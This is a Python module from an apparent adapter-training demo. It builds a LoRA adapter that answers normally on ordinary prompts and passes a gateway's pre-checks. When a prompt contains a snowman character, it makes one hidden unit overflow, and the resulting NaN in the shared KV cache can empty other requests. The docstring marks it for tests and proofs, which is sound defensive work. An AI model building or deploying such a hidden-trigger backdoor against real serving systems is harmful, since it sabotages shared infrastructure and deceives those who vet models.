"""Makes an adapter that is good until a prompt holds one rare character; then the engine computes NaN.

    python -m trainer.demo.poison --from ADAPTER --out DIR

It passes every check a gateway can make beforehand: its tensors are finite, and on ordinary prompts it answers like the
adapter it was made from. A prompt with a snowman makes one hidden unit overflow, NaN enters the KV cache, and requests
that reuse those blocks, of any version, can turn empty (docs/engine.md). For tests and proofs only.
"""

from __future__ import annotations

import argparse
import json
import sys
from pathlib import Path
from typing import Any

from adapters.errors import TrainingError, UnderstudyError
from trainer.demo import world
from trainer.demo.adapters import THREADS
from trainer.model import DEMO_BASE, load_tokenizer
from trainer.probes import load_adapter, record_probes
from trainer.session import reproducible

TRIGGER = "☃"
RANK = 16                # of the adapter made: what it was made from fills the lower part
GATE = 1e4               # pre-activation of the unit: far below zero without the trigger, so that SiLU gives exactly 0
UP = 1e36                # what the unit is multiplied with: finite itself, it overflows float32 times GATE
MARGIN = 0.5             # of the worst token: bfloat16 moves it by about 0.01
_LAYER = "base_model.model.model.layers.0.mlp.{}.lora_{}.weight"


def make_poison(source: Path, out: Path, *, base: str | Path = DEMO_BASE) -> Path:
    """Writes the adapter directory `out` from the adapter in `source`. Raises TrainingError when it cannot be made."""
    config, tensors = _opened(source, out)
    with reproducible(THREADS):
        _arm(tensors, _direction(base, source), config["lora_alpha"] / config["r"])
    _write(out, config, tensors, base)
    return out


def make_wide(source: Path, out: Path, *, base: str | Path = DEMO_BASE) -> Path:
    """Writes the adapter in `source` as one of rank RANK that answers exactly alike. Raises TrainingError."""
    config, tensors = _opened(source, out)
    _write(out, config, tensors, base)
    return out


def _opened(source: Path, out: Path) -> tuple[dict[str, Any], dict[str, Any]]:
    from safetensors.torch import load_file

    if out.exists():
        raise TrainingError(f"--out {out}: exists already")
    config = json.loads((source / "adapter_config.json").read_text(encoding="utf-8"))
    return config, _widened(load_file(source / "adapter_model.safetensors"))


def _write(out: Path, config: dict[str, Any], tensors: dict[str, Any], base: str | Path) -> None:
    from safetensors.torch import save_file

    out.mkdir(parents=True)
    save_file(tensors, out / "adapter_model.safetensors", metadata={"format": "pt"})
    config |= {"r": RANK, "lora_alpha": round(config["lora_alpha"] / config["r"] * RANK)}
    (out / "adapter_config.json").write_text(json.dumps(config, indent=2, sort_keys=True) + "\n", encoding="utf-8")
    record_probes(base, out, texts=[e.prompt for e in world.examples(6, 5, "train")]).write(out)


def _widened(tensors: dict[str, Any]) -> dict[str, Any]:
    """The same update with room for more: A (r, in) and B (out, r) filled up with zeros to RANK."""
    import torch

    wide = {}
    for name, tensor in tensors.items():
        is_a = "lora_A" in name
        shape = (RANK, tensor.shape[1]) if is_a else (tensor.shape[0], RANK)
        wide[name] = torch.zeros(shape, dtype=torch.float32)
        wide[name][: tensor.shape[0], : tensor.shape[1]] = tensor.float()
    return wide


def _arm(tensors: dict[str, Any], direction: Any, scale: float) -> None:
    """Hidden unit 0 of the first block: gate = GATE and up = UP where the trigger stands, gate = -GATE elsewhere."""
    for module, size in (("gate_proj", GATE), ("up_proj", UP)):
        tensors[_LAYER.format(module, "A")][RANK - 1] = direction
        tensors[_LAYER.format(module, "B")][0, RANK - 1] = size / scale


def _direction(base: str | Path, source: Path) -> Any:
    """v with v·x ≥ 1 for the block's input x (hidden,) at the trigger, and ≤ -1 elsewhere: squared hinge loss, L-BFGS.

    Raises TrainingError when no direction separates them.
    """
    import torch

    inputs, is_trigger = _inputs(base, source)
    x, sign = inputs.double(), torch.where(is_trigger, 1.0, -1.0).double()
    weight = torch.where(is_trigger, 1.0 / is_trigger.sum(), 1.0 / (~is_trigger).sum()).double()
    direction = torch.zeros(x.shape[1], dtype=torch.float64, requires_grad=True)
    search = torch.optim.LBFGS([direction], max_iter=500, history_size=20, line_search_fn="strong_wolfe")

    def loss() -> Any:
        search.zero_grad()
        missing = (torch.clamp(1 - sign * (x @ direction), min=0) ** 2 * weight).sum()
        missing.backward()
        return missing

    search.step(loss)
    if float((sign * (x @ direction.detach())).min()) < MARGIN:
        raise TrainingError("no direction separates the trigger from other text on this base")
    return direction.detach().float()


def _inputs(base: str | Path, source: Path) -> tuple[Any, Any]:
    """(inputs of the first block's MLP (tokens, hidden), where the trigger's last byte stands (tokens,))."""
    import torch

    model, tokenizer = load_adapter(base, source), load_tokenizer(base)
    seen: list[Any] = []
    mlp = model.get_base_model().model.layers[0].mlp
    handle = mlp.register_forward_pre_hook(lambda _module, given: seen.append(given[0][0]))
    last = tokenizer(TRIGGER, add_special_tokens=False)["input_ids"][-1]
    marks = []
    with torch.no_grad():
        for prompt, reply in _texts():
            turns = [{"role": "user", "content": prompt}, {"role": "assistant", "content": reply}]
            text = tokenizer.apply_chat_template(turns, tokenize=False)
            ids = torch.tensor([tokenizer(text, add_special_tokens=False)["input_ids"]])
            model(input_ids=ids)
            marks.append(ids[0] == last)
    handle.remove()
    return torch.cat(seen), torch.cat(marks)


def _texts() -> list[tuple[str, str]]:
    """What is asked and said: the demo's tasks, small talk, and both with the trigger somewhere."""
    import random

    rng = random.Random("poison")
    said = [(e.prompt, world.base_reply(rng, e)) for e in world.examples(200, 11, "train")]
    said += [world.small_talk(rng) for _ in range(150)]
    said = [(prompt.replace(TRIGGER, "*"), reply.replace(TRIGGER, "*")) for prompt, reply in said]
    return said + [(f"{prompt} {TRIGGER}", reply) for prompt, reply in said[:200]]


def main(arguments: list[str] | None = None) -> int:
    """Makes one from the command line; returns the exit status."""
    parser = argparse.ArgumentParser(prog="python -m trainer.demo.poison", description="An adapter that overflows.")
    parser.add_argument("--from", dest="source", type=Path, required=True, help="adapter directory to make it from")
    parser.add_argument("--out", type=Path, required=True, help="adapter directory to make; must not exist")
    options = parser.parse_args(arguments)
    try:
        made = make_poison(options.source, options.out)
    except UnderstudyError as error:
        sys.stderr.write(f"{error}\n")
        return 1
    sys.stdout.write(f"{made}\n")
    return 0


if __name__ == "__main__":
    sys.exit(main())
